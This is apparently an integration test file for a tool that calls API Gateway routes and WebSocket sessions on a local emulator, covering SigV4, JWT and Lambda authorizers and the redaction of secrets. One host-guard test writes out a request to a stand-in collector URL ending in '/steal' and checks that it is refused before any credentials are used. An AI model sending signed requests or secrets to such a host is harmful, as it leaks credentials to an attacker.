// Calling routes against the local API through real sockets: every auth type (SigV4 verified by the local API, a JWT
// checked against a local JWKS, a Lambda authorizer), path and query parameters, a request from a generated .http
// file, binary bodies both ways, a 5xx, a timeout and a cancellation, the host guard (nothing is sent), the history
// without secrets; WebSocket: connect through the $connect authorizer (and its refusal), route completion, messages
// both ways, @connections post, get and disconnect through the real management API client.
import * as assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  callRoute,
  CallHistory,
  deleteConnection,
  generateHttpFile,
  getConnection,
  historyEntryOf,
  localTarget,
  parseHttpFile,
  postToConnection,
  prepareFromFile,
  prepareFromLine,
  routeCompletions,
  specApi,
  WebSocketSession,
  WebSocketSessions,
  type AuthProviders,
  type CallableApi,
  type WsFrame,
} from '../../src/aws/call';
import { environmentVariables, withValues } from '../../src/core/call';
import { isWorkbenchError } from '../../src/core/errors';
import { validateSpec } from '../../src/core/gatewaySpec/validate';
import type { GatewaySpec } from '../../src/core/gatewaySpec/model';
import { startLocalApi, type LocalApi } from '../../src/local/server';
import { testIssuer } from '../support/jwt';
import { localWorkspace, type LocalWorkspace } from '../support/localWorkspace';
import WebSocket from 'ws';
import { executeApiSigner, signable } from '../support/sigv4';

const CRED = { accessKeyId: 'AKIDLOCALCALLTEST', secretAccessKey: 'call-local-secret' };
const ISSUER = 'https://issuer.local.test';

const HTTP_SPEC = `version: 1
api: { name: call-test, protocol: HTTP }
integrations:
  echo: { type: AWS_PROXY, uri: "arn:aws:lambda:us-east-1:123456789012:function:echo" }
authorizers:
  jwt: { type: JWT, identitySources: [$request.header.Authorization], jwt: { issuer: "${ISSUER}", audience: [app] } }
  gate: { type: REQUEST, uri: "arn:aws:lambda:us-east-1:123456789012:function:gate", identitySources: [$request.header.X-Token], resultTtlSeconds: 0, enableSimpleResponses: true }
routes:
  GET /echo/{id}: { integration: echo }
  POST /echo/{id}: { integration: echo }
  POST /iam: { integration: echo, authorizationType: AWS_IAM }
  GET /jwt: { integration: echo, authorizer: jwt, authorizationScopes: [things/read] }
  GET /custom: { integration: echo, authorizer: gate }
  GET /boom: { integration: echo }
  GET /slow: { integration: echo }
stages:
  dev: {}
`;

const ECHO = `exports.handler = async (event) => {
  if (event.rawPath.endsWith('/boom')) throw new Error('boom');
  if (event.rawPath.endsWith('/slow')) await new Promise(() => {});
  if (event.headers['content-type'] === 'application/octet-stream')
    return { statusCode: 200, headers: { 'content-type': 'application/octet-stream' }, isBase64Encoded: true, body: event.body };
  return { statusCode: 200, body: JSON.stringify({ path: event.rawPath, query: event.rawQueryString, params: event.pathParameters, headers: event.headers, body: event.body, auth: event.requestContext.authorizer }) };
};`;

const GATE = `exports.handler = async (event) => ({ isAuthorized: event.headers['x-token'] === 'open-sesame', context: { who: 'gate' } });`;

function model(text: string, name: string): GatewaySpec {
  const v = validateSpec(text, { fileName: name });
  assert.ok(v.valid && v.model, JSON.stringify(v.diagnostics));
  return v.model;
}

async function rejects(p: Promise<unknown>, code: string, message?: RegExp): Promise<void> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  assert.ok(isWorkbenchError(err), `expected a WorkbenchError ${code}, got ${String(err)}`);
  assert.equal(err.code, code, err.message);
  if (message) assert.match(err.message, message);
}

const json = (body: Uint8Array) => JSON.parse(Buffer.from(body).toString('utf8')) as any;

describe('calling an HTTP API on the local API', () => {
  let ws: LocalWorkspace;
  let local: LocalApi;
  let api: CallableApi;
  const iss = testIssuer(ISSUER, 'k1');
  const token = (scope: string) =>
    iss.sign({ iss: ISSUER, aud: 'app', exp: Math.floor(Date.now() / 1000) + 600, scope, sub: 'user-7' });
  const aws = { credentials: async () => CRED, region: 'us-east-1' };

  before(async () => {
    ws = localWorkspace({
      'call-test.apigw.yaml': HTTP_SPEC,
      'call-test.apigw.local.yaml': `functions:\n  echo: { handler: src/echo.js, timeout: 60 }\n  gate: { handler: src/gate.js }\njwt:\n  jwt: { jwksFile: jwks.json }\niam:\n  credentials:\n    - { accessKeyId: ${CRED.accessKeyId}, secretAccessKey: ${CRED.secretAccessKey} }\n`,
      'jwks.json': JSON.stringify(iss.jwks),
      'src/echo.js': ECHO,
      'src/gate.js': GATE,
    });
    local = await startLocalApi({ specPath: ws.file('call-test.apigw.yaml'), stage: 'dev', port: 0, watch: false });
    api = specApi(model(HTTP_SPEC, 'call-test.apigw.yaml'), 'dev', [localTarget(local.url, 'dev')]);
  });
  after(async () => {
    await local?.stop();
    ws?.remove();
  });

  it('path and query parameters reach the integration; the route is found; timing and the request id come back', async () => {
    const p = prepareFromLine(api, api.targets[0]!, 'GET /echo/42?a=1&b=x%20y', { headers: [['X-Mine', 'v']] });
    assert.equal(p.routeKey, 'GET /echo/{id}');
    const r = await callRoute(p);
    assert.equal(r.response.status, 200);
    const e = json(r.response.body);
    assert.deepEqual(
      [e.path, e.query, e.params, e.headers['x-mine']],
      ['/dev/echo/42', 'a=1&b=x%20y', { id: '42' }, 'v'],
    );
    assert.ok(r.response.requestId && r.response.requestId === local.requests().at(-1)!.requestId);
    const t = r.response.timing;
    assert.ok(t.connect !== undefined && t.firstByte !== undefined && t.firstByte <= t.total, JSON.stringify(t));
    assert.equal(t.tls, undefined, 'no TLS on plain HTTP');
  });

  it('a request from the generated .http file: {{baseUrl}} is the target, path variables come from the file', async () => {
    const text = generateHttpFile(model(HTTP_SPEC, 'x.apigw.yaml'), { targets: [api.targets[0]!] }).replace(
      '@id = 1',
      '@id = 7',
    );
    const file = parseHttpFile(text);
    const req = file.requests.find((x) => x.marker?.routeKey === 'POST /echo/{id}')!;
    const r = await callRoute(prepareFromFile(api, api.targets[0]!, file, req));
    assert.equal(r.response.status, 200);
    const e = json(r.response.body);
    assert.deepEqual([e.path, e.body], ['/dev/echo/7', '{\n}']);
  });

  it("an environment's values reach the route; its secret ones are left out of the request shown and the history", async () => {
    const file = parseHttpFile(
      '# @prompt password\nPOST {{baseUrl}}/echo/{{id}}\nX-Key: {{key}}\nContent-Type: application/json\n\n{"p": "{{password}}"}\n',
    );
    const env = environmentVariables(
      { jetBrains: { dev: { id: '5', key: 'public-key' } }, jetBrainsPrivate: { dev: { key: 'private-key-123' } } },
      'dev',
    );
    const environment = withValues(env, new Map([['password', 'typed-secret']]), ['typed-secret']);
    const p = prepareFromFile(api, api.targets[0]!, file, file.requests[0]!, { environment });
    const r = await callRoute(p);
    const e = json(r.response.body);
    assert.deepEqual([e.path, e.headers['x-key'], e.body], ['/dev/echo/5', 'private-key-123', '{"p": "typed-secret"}']);
    const shown = JSON.stringify(r.shown);
    assert.ok(!shown.includes('private-key-123') && !shown.includes('typed-secret'), shown);
    assert.ok(shown.includes('[redacted]'), shown);
    const kept = JSON.stringify(historyEntryOf(r, { id: 'env', routeKey: r.routeKey!, target: 'local' }));
    assert.ok(!kept.includes('private-key-123') && !kept.includes('typed-secret'), kept);
  });

  it('AWS_IAM: refused without credentials, signed by the SDK signer and verified by the local API, 403 with a wrong secret', async () => {
    const p = prepareFromLine(api, api.targets[0]!, 'POST /iam', {
      body: '{"e":1}',
      headers: [['content-type', 'application/json']],
    });
    assert.equal(p.auth?.type, 'AWS_IAM');
    await rejects(callRoute(p), 'NoCredentials', /AWS_IAM/);
    const ok = await callRoute(p, { aws });
    assert.equal(ok.response.status, 200, Buffer.from(ok.response.body).toString());
    assert.equal(json(ok.response.body).body, '{"e":1}');
    assert.ok(
      ok.shown.headers.some(([k, v]) => k === 'authorization' && v === '[redacted]'),
      'the signature is not shown',
    );
    const wrong = await callRoute(p, {
      aws: { ...aws, credentials: async () => ({ ...CRED, secretAccessKey: 'nope' }) },
    });
    assert.equal(wrong.response.status, 403);
  });

  it('AWS_IAM: a query with a literal +, an encoded + and space, a key without a value and a repeated key is signed as AWS reads it', async () => {
    // SigV4's canonical query string URI-encodes each name and value as the URL carries them: a `+` in a URL is a plus
    // (%2B), not a space, and `flag` is `flag=` (https://docs.aws.amazon.com/IAM/latest/UserGuide/create-signed-request.html).
    const p = prepareFromLine(api, api.targets[0]!, 'POST /iam?phone=+44+20&q=a%20b%2Bc&flag&x=2&x=1', { body: '{}' });
    const ok = await callRoute(p, { aws });
    assert.equal(ok.response.status, 200, Buffer.from(ok.response.body).toString());
  });

  it('JWT: the token provider is asked with the issuer and scopes; a token without the scope is 403; none is refused', async () => {
    const p = prepareFromLine(api, api.targets[0]!, 'GET /jwt');
    await rejects(callRoute(p), 'InvalidArgument', new RegExp(`needs a JWT from ${ISSUER}`));
    const asked: unknown[] = [];
    const providers: AuthProviders = {
      token: async (need) => {
        asked.push(need);
        return token('things/read');
      },
    };
    const ok = await callRoute(p, providers);
    assert.equal(ok.response.status, 200);
    assert.equal(json(ok.response.body).auth.jwt.claims.sub, 'user-7');
    assert.deepEqual(asked, [
      { routeKey: 'GET /jwt', authorizer: 'jwt', issuer: ISSUER, audience: ['app'], scopes: ['things/read'] },
    ]);
    const scope = await callRoute(p, { token: async () => `Bearer ${token('other')}` });
    assert.equal(scope.response.status, 403);
    // A header the caller gives wins over the provider.
    const given = prepareFromLine(api, api.targets[0]!, 'GET /jwt', {
      headers: [['Authorization', `Bearer ${token('things/read')}`]],
    });
    assert.equal((await callRoute(given, { token: async () => 'unused' })).response.status, 200);
  });

  it('CUSTOM: the identity sources come from the provider; a wrong one is denied by the Lambda authorizer', async () => {
    const p = prepareFromLine(api, api.targets[0]!, 'GET /custom');
    await rejects(callRoute(p), 'InvalidArgument', /needs the header X-Token/);
    const ok = await callRoute(p, { identity: async () => ({ 'X-Token': 'open-sesame' }) });
    assert.equal(ok.response.status, 200);
    assert.equal(json(ok.response.body).auth.lambda.who, 'gate');
    assert.ok(ok.secretHeaders.has('x-token'));
    assert.ok(ok.shown.headers.some(([k, v]) => k === 'X-Token' && v === '[redacted]'));
    const no = await callRoute(p, { identity: async () => ({ 'X-Token': 'wrong' }) });
    assert.equal(no.response.status, 403);
  });

  it('binary bodies go and come back as bytes, every byte value intact', async () => {
    const bytes = new Uint8Array(256).map((_, i) => i);
    const p = prepareFromLine(api, api.targets[0]!, 'POST /echo/bin', {
      body: bytes,
      headers: [['content-type', 'application/octet-stream']],
    });
    const r = await callRoute(p);
    assert.equal(r.response.status, 200);
    assert.deepEqual(new Uint8Array(r.response.body), bytes);
    assert.equal(r.response.size, 256);
  });

  it('a 5xx comes back as a response with its request id; a timeout and a cancellation are errors that say so', async () => {
    const boom = await callRoute(prepareFromLine(api, api.targets[0]!, 'GET /boom'));
    assert.equal(boom.response.status, 500);
    assert.deepEqual(json(boom.response.body), { message: 'Internal Server Error' });
    assert.ok(boom.response.requestId);
    const slow = prepareFromLine(api, api.targets[0]!, 'GET /slow');
    await rejects(callRoute(slow, {}, { timeoutMs: 300 }), 'Network', /No answer .* within 0\.3 s/);
    const ac = new AbortController();
    const pending = callRoute(slow, {}, { signal: ac.signal });
    setTimeout(() => ac.abort(), 50);
    await rejects(pending, 'Cancelled');
  });

  it('the host guard refuses a request file that points elsewhere before anything is sent or signed', async () => {
    const before = local.requests().length;
    const ws = parseHttpFile('###\nWEBSOCKET ws://127.0.0.1:1/dev\n');
    await rejects(
      callRoute(prepareFromFile(api, api.targets[0]!, ws, ws.requests[0]!)),
      'Unsupported',
      /WebSocket request/,
    );
    const file = parseHttpFile('###\nPOST https://collector.example.net/steal\nContent-Type: text/plain\n\nx');
    const asked: string[] = [];
    const p = prepareFromFile(api, api.targets[0]!, file, file.requests[0]!);
    await rejects(
      callRoute(
        { ...p, auth: api.routes.get('POST /iam')! },
        { aws: { ...aws, credentials: async () => (asked.push('creds'), CRED) } },
      ),
      'InvalidArgument',
      /Refused to send a request to https:\/\/collector\.example\.net/,
    );
    assert.deepEqual(asked, [], 'no credentials were resolved');
    assert.equal(local.requests().length, before, 'nothing reached the local API either');
  });

  it('history entries of these calls hold no token, identity source or signature', async () => {
    const h = new CallHistory();
    const jwt = token('things/read');
    for (const [line, providers] of [
      ['GET /jwt', { token: async () => jwt }],
      ['GET /custom', { identity: async () => ({ 'X-Token': 'open-sesame' }) }],
      ['POST /iam', { aws }],
    ] as const) {
      const r = await callRoute(prepareFromLine(api, api.targets[0]!, line), providers);
      h.add(historyEntryOf(r, { id: line, routeKey: r.routeKey!, target: 'local' }));
    }
    const text = JSON.stringify(h.toJSON());
    for (const secret of [jwt, 'open-sesame', CRED.secretAccessKey, 'Signature='])
      assert.ok(!text.includes(secret), `history holds ${secret.slice(0, 12)}`);
    assert.deepEqual(h.routes().sort(), ['GET /custom', 'GET /jwt', 'POST /iam']);
  });
});

const WS_SPEC = {
  version: 1,
  api: { name: 'ws-call', protocol: 'WEBSOCKET', routeSelectionExpression: '$request.body.action' },
  integrations: { fn: { type: 'AWS_PROXY', uri: 'arn:aws:lambda:us-east-1:123456789012:function:wsfn' } },
  authorizers: {
    tok: {
      type: 'REQUEST',
      uri: 'arn:aws:lambda:us-east-1:123456789012:function:wsauth',
      identitySources: ['route.request.querystring.token'],
    },
  },
  routes: {
    $connect: { integration: 'fn', authorizer: 'tok' },
    $disconnect: { integration: 'fn' },
    echo: { integration: 'fn', routeResponseSelectionExpression: '$default' },
    $default: { integration: 'fn', routeResponseSelectionExpression: '$default' },
  },
  stages: { dev: {} },
};

const WS_FN = `exports.handler = async (event) => {
  const t = event.requestContext.eventType;
  if (t !== 'MESSAGE') return { statusCode: 200 };
  let body = {};
  try { body = JSON.parse(event.body); } catch {}
  return { statusCode: 200, body: JSON.stringify({ route: event.requestContext.routeKey, got: body.text ?? null }) };
};`;

const WS_AUTH = `exports.handler = async (event) => ({
  principalId: 'p',
  policyDocument: { Version: '2012-10-17', Statement: [{ Action: 'execute-api:Invoke', Effect: event.queryStringParameters.token === 'let-me-in' ? 'Allow' : 'Deny', Resource: event.methodArn }] },
});`;

async function until(check: () => boolean, what: string): Promise<void> {
  for (let i = 0; i < 500 && !check(); i++) await new Promise((r) => setTimeout(r, 10));
  assert.ok(check(), `timed out waiting for ${what}`);
}

describe('WebSocket sessions on the local API', () => {
  let ws: LocalWorkspace;
  let local: LocalApi;
  let api: CallableApi;
  const aws = { credentials: async () => CRED, region: 'us-east-1' };

  before(async () => {
    const text = JSON.stringify(WS_SPEC);
    ws = localWorkspace({
      'ws-call.apigw.json': text,
      'ws-call.apigw.local.yaml': 'functions:\n  wsfn: { handler: src/fn.js }\n  wsauth: { handler: src/auth.js }\n',
      'src/fn.js': WS_FN,
      'src/auth.js': WS_AUTH,
    });
    local = await startLocalApi({
      specPath: ws.file('ws-call.apigw.json'),
      stage: 'dev',
      port: 0,
      watch: false,
      iam: { credentials: [CRED] },
    });
    api = specApi(model(text, 'ws-call.apigw.json'), 'dev', [localTarget(local.wsUrl!, 'dev')]);
  });
  after(async () => {
    await local?.stop();
    ws?.remove();
  });

  const connect = (token: string) =>
    WebSocketSession.connect({
      url: api.targets[0]!.baseUrl,
      targets: api.targets,
      auth: api.routes.get('$connect')!,
      providers: { identity: async () => ({ token }) },
    });

  it('connects through the $connect authorizer, and says why when it refuses', async () => {
    await rejects(
      connect('wrong'),
      'AccessDenied',
      /refused the connection: the \$connect authorizer or the IAM policy denied it \(403\)/,
    );
    const s = await connect('let-me-in');
    assert.equal(s.state, 'open');
    assert.ok(!s.label.includes('let-me-in'), 'the token is not in the label');
    await s.close();
    assert.equal(s.state, 'closed');
  });

  it('route completion offers the spec’s custom route; messages both ways carry timestamps; ping; close', async () => {
    const c = routeCompletions(api.routes.keys(), api.routeSelectionExpression);
    assert.deepEqual(
      c.completions.map((x) => x.text),
      ['{"action": "echo"}'],
    );
    const s = await connect('let-me-in');
    const frames: WsFrame[] = [];
    s.on('frame', (f) => frames.push(f));
    s.send(c.completions[0]!.text.replace('}', ', "text": "hi"}'));
    s.send('not json');
    await until(() => frames.filter((f) => f.direction === 'in').length >= 2, 'two answers');
    const answers = frames
      .filter((f) => f.direction === 'in')
      .map((f) => JSON.parse(String(f.data)) as { route: string });
    assert.deepEqual(
      answers.sort((a, b) => a.route.localeCompare(b.route)),
      [
        { route: '$default', got: null },
        { route: 'echo', got: 'hi' },
      ],
    );
    assert.equal(frames.filter((f) => f.direction === 'out').length, 2);
    assert.ok(frames.every((f) => typeof f.time === 'number' && f.time > 0));
    assert.ok((await s.ping()) >= 0);
    assert.deepEqual(await s.close(1000, 'bye'), { code: 1000, reason: 'bye', abnormal: false });
  });

  it('a message over 32 KB goes in frames of 32 KB; one over 128 KB is refused before anything is sent (AWS quotas)', async () => {
    const s = await connect('let-me-in');
    const frames: WsFrame[] = [];
    s.on('frame', (f) => frames.push(f));
    const text = 'x'.repeat(100 * 1024);
    s.send(JSON.stringify({ action: 'echo', text }));
    await until(() => frames.some((f) => f.direction === 'in') || s.state !== 'open', 'the answer');
    assert.equal(s.state, 'open', 'the stage did not close the connection (1009)');
    const answer = JSON.parse(String(frames.find((f) => f.direction === 'in')!.data)) as { got: string };
    assert.equal(answer.got, text);
    assert.throws(
      () => s.send(new Uint8Array(128 * 1024 + 1)),
      (e: unknown) => isWorkbenchError(e) && e.code === 'InputLimit' && /128 KB/.test(e.message),
    );
    assert.equal(frames.filter((f) => f.direction === 'out').length, 1, 'the refused message is not recorded as sent');
    assert.equal(s.state, 'open');
    await s.close();
  });

  it('several sessions at once, each with its own frames; closeAll ends them', async () => {
    const sessions = new WebSocketSessions();
    const o = {
      url: api.targets[0]!.baseUrl,
      targets: api.targets,
      auth: api.routes.get('$connect')!,
      providers: { identity: async () => ({ token: 'let-me-in' }) },
    };
    const [a, b] = await Promise.all([sessions.open(o), sessions.open(o)]);
    assert.notEqual(a.id, b.id);
    assert.deepEqual(
      sessions
        .list()
        .map((s) => s.id)
        .sort(),
      [a.id, b.id].sort(),
    );
    a.send('{"action": "echo", "text": "to a"}');
    b.send('{"action": "echo", "text": "to b"}');
    const answered = (s: WebSocketSession) => s.frames.some((f) => f.direction === 'in');
    await until(() => answered(a) && answered(b), 'both answers');
    assert.equal(JSON.parse(String(a.frames.find((f) => f.direction === 'in')!.data)).got, 'to a');
    assert.equal(JSON.parse(String(b.frames.find((f) => f.direction === 'in')!.data)).got, 'to b');
    await sessions.closeAll();
    assert.deepEqual([a.state, b.state, sessions.list().length], ['closed', 'closed', 0]);
  });

  it('@connections: post to a connection and read it through the management API; disconnect ends the session', async () => {
    const s = await connect('let-me-in');
    await until(() => local.connections().length > 0, 'the connection');
    const id = local.connections().at(-1)!;
    const target = { endpoint: local.url, targets: api.targets, region: 'us-east-1', credentials: aws.credentials };
    const got: WsFrame[] = [];
    s.on('frame', (f) => got.push(f));
    await postToConnection(target, id, 'pushed by the workbench');
    await until(() => got.some((f) => f.data === 'pushed by the workbench'), 'the posted message');
    const info = await getConnection(target, id);
    assert.ok(info.connectedAt instanceof Date);
    const closed = s.whenClosed();
    await deleteConnection(target, id);
    const close = await closed;
    assert.equal(s.state, 'closed');
    assert.ok(close.code > 0);
    await rejects(postToConnection(target, id, 'again'), 'NotFound', /is gone/);
    await rejects(
      postToConnection({ ...target, endpoint: 'https://elsewhere.example.com/dev' }, id, 'x'),
      'InvalidArgument',
      /Refused/,
    );
    await rejects(postToConnection(target, 'a b', 'x'), 'InvalidArgument', /Not a connection id/);
  });
});

describe('WebSocket $connect with AWS_IAM on the local API', () => {
  let ws: LocalWorkspace;
  let local: LocalApi;
  const spec = {
    version: 1,
    api: { name: 'ws-iam', protocol: 'WEBSOCKET' },
    integrations: { mock: { type: 'MOCK' } },
    routes: { $connect: { authorizationType: 'AWS_IAM' }, $default: { integration: 'mock' } },
    stages: { dev: {} },
  };

  before(async () => {
    ws = localWorkspace({ 'ws-iam.apigw.json': JSON.stringify(spec) });
    local = await startLocalApi({
      specPath: ws.file('ws-iam.apigw.json'),
      stage: 'dev',
      port: 0,
      watch: false,
      iam: { credentials: [CRED] },
    });
  });
  after(async () => {
    await local?.stop();
    ws?.remove();
  });

  it('signs the upgrade request with SigV4 (the stage path included); a wrong secret is refused', async () => {
    const api = specApi(model(JSON.stringify(spec), 'ws-iam.apigw.json'), 'dev', [localTarget(local.wsUrl!, 'dev')]);
    const o = { url: local.wsUrl!, targets: api.targets, auth: api.routes.get('$connect')! };
    await rejects(WebSocketSession.connect(o), 'NoCredentials');
    const s = await WebSocketSession.connect({
      ...o,
      providers: { aws: { credentials: async () => CRED, region: 'us-east-1' } },
    });
    assert.equal(s.state, 'open');
    await s.close();
    await rejects(
      WebSocketSession.connect({
        ...o,
        providers: { aws: { credentials: async () => ({ ...CRED, secretAccessKey: 'x' }), region: 'us-east-1' } },
      }),
      'AccessDenied',
      /403/,
    );
  });

  // A browser's WebSocket cannot send an Authorization header: it connects to a URL signed in its query string (the
  // SDK's presign, Amplify's Signer.signUrl). The local API refused every such connection as unsigned.
  it("connects a browser's presigned URL; the same URL with a changed query or signed by another secret is refused 403", async () => {
    const url = new URL(local.wsUrl!);
    const signed = async (secretAccessKey: string) => {
      const r = await executeApiSigner({ ...CRED, secretAccessKey }).presign(signable(url), { expiresIn: 300 });
      return `${local.wsUrl}?${new URLSearchParams(r.query as Record<string, string>).toString()}`;
    };
    const good = await signed(CRED.secretAccessKey);
    assert.equal(await upgradeStatus(good), 101);
    assert.equal(await upgradeStatus(`${good}&room=b`), 403);
    assert.equal(await upgradeStatus(await signed('x')), 403);
  });
});

/** 101 when the WebSocket opens (then closed), else the status the upgrade was answered with. */
function upgradeStatus(url: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const client = new WebSocket(url);
    client.on('open', () => {
      client.close();
      resolve(101);
    });
    client.on('unexpected-response', (req, res) => {
      resolve(res.statusCode ?? 0);
      res.resume();
      req.destroy();
    });
    client.on('error', reject);
  });
}
